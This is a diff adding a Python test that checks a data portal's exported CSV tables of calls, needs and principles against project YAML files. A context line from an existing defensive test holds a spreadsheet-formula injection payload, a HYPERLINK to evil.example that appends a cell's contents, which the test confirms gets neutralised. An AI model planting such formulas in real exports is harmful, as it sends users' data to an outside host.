@@ -9,6 +9,7 @@ from pathlib import Path
 from bs4 import BeautifulSoup
 
 from cocreate.portal.datapackage import TABLES
+from cocreate.standard.vocabulary import CATEGORIES
 from helpers import PROJECTS
 
 SLUGS = sorted(p.name for p in PROJECTS.iterdir() if (p / "project.yml").exists())
@@ -99,3 +100,24 @@ def test_contributed_texts_that_begin_like_formulas_are_neutralised(tmp_path: Pa
     assert '"\'=HYPERLINK(""https://evil.example/?""&A1,""klik"")"' in (site / "data" / "stakeholders.csv").read_text("utf-8")
     report = validate(str(site / "data" / "datapackage.json"))
     assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])[:10]
+
+
+def test_calls_and_principles_are_open_data_too(demo_site: Path) -> None:
+    """Every recorded call (closed ones included: the data says what is recorded, the pages
+    what is open on the day of the build), what it seeks, and every principle."""
+    import yaml
+
+    files = {slug: yaml.load((PROJECTS / slug / "project.yml").read_text("utf-8"), Loader=yaml.BaseLoader)
+             for slug in SLUGS}
+    calls = rows(demo_site, "calls")
+    assert [c["project"] for c in calls] == [s for s in SLUGS if "seeking" in files[s]]
+    for call in calls:
+        seeking = files[call["project"]]["seeking"]
+        assert (call["opened"], call["closes"]) == (seeking["opened"], seeking["closes"])
+        assert call["categories"].split(";") == [c for c in CATEGORIES if c in seeking.get("categories", [])]
+    needs = rows(demo_site, "needs")
+    assert len(needs) == sum(len(files[s].get("seeking", {}).get(k, [])) for s in SLUGS for k in ("skills", "resources"))
+    principles = rows(demo_site, "principles")
+    assert [(p["project"], p["principle"]) for p in principles] == [
+        (s, p["principle"]) for s in SLUGS for p in files[s].get("principles", [])]
+    assert any(p["evidence"] for p in principles) and all(p["practice_id"] for p in principles)
